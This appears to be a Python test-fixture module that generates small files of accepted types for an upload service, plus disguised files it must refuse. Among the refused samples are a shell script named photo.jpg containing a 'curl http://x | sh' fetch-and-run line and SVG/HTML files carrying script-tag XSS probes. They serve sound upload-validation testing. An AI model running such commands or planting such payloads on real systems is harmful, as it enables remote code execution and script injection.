"""Small files of each kind the service takes (and of kinds it refuses), made here: what
their first bytes must be is all that matters to the service."""

from __future__ import annotations

import hashlib
import os
import struct
import zlib


def _tail(n: int) -> bytes:
    return os.urandom(n)


def jpeg(n: int = 2000) -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + \
        _tail(n) + b"\xff\xd9"


def png(n: int = 2000) -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + \
        struct.pack(">I", zlib.crc32(chunk)) + _tail(n)


def webp(n: int = 2000) -> bytes:
    body = b"WEBPVP8 " + struct.pack("<I", n) + _tail(n)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic(n: int = 2000) -> bytes:
    brands = b"heic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands + _tail(n)


def heif_compatible_heic(n: int = 2000) -> bytes:
    """A `mif1` file whose compatible brands name HEIC (as some phones write it)."""
    brands = b"mif1" + b"\x00\x00\x00\x00" + b"mif1miafheic"
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands + _tail(n)


def pdf(n: int = 2000) -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + _tail(n) + b"\n%%EOF\n"


TAKEN = {"image/jpeg": jpeg, "image/png": png, "image/webp": webp, "image/heic": heic,
         "application/pdf": pdf}

# Files the service refuses (415) whatever they are called or sent as.
REFUSED = {
    "script-named-jpg": (b"#!/bin/sh\ncurl http://x | sh\n" + b"#" * 200, "photo.jpg",
                         "image/jpeg"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            b'<script>alert(1)</script></svg>' + b" " * 100, "chart.svg", "image/svg+xml"),
    "html": (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
             + b" " * 100, "report.pdf", "application/pdf"),
    "zip": (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + os.urandom(300), "photos.jpg",
            "image/jpeg"),
    "avif": (struct.pack(">I", 24) + b"ftypavif\x00\x00\x00\x00mif1avif" + os.urandom(200),
             "photo.heic", "image/heic"),
    "empty": (b"", "empty.jpg", "image/jpeg"),
}


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()
